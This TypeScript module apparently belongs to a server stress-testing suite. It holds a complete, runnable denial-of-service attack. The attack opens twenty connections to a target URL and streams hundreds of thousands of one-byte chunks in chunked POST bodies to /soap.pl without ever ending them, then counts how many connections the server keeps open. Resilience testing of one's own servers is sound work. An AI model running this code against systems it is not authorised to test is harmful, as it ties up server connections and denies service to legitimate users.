/** Bodies that come in chunks of one byte, and never end. */
import { once } from 'node:events';
import { setTimeout } from 'node:timers/promises';
import type { Attack } from '../attack';
import { openSilent } from '../sending';

const CONNECTIONS = 20;
const BYTES = 500_000;
/** Chunks that are written together. */
const PIECE = 5000;
/** How long the bodies wait for their end, in milliseconds. */
const STAY = 3000;

const HEAD =
  'POST /soap.pl HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n';

export const chunks: Attack = {
  name: 'chunks',
  title: `${CONNECTIONS} bodies of ${BYTES.toLocaleString('en')} chunks of one byte, without end`,
  run: async ({ url }) => {
    const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => openSilent(url)));
    // Else a client would not notice that it was cut off.
    for (const socket of sockets) socket.resume();
    await Promise.all(
      sockets.map(async (socket) => {
        socket.write(HEAD);
        for (let sent = 0; sent < BYTES && !socket.closed; sent += PIECE) {
          const open = socket.write('1\r\n<\r\n'.repeat(PIECE));
          if (!open) await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
        }
      }),
    );
    await setTimeout(STAY);
    const left = sockets.filter(({ closed }) => !closed).length;
    for (const socket of sockets) socket.destroy();
    return `${left} connections left`;
  },
};
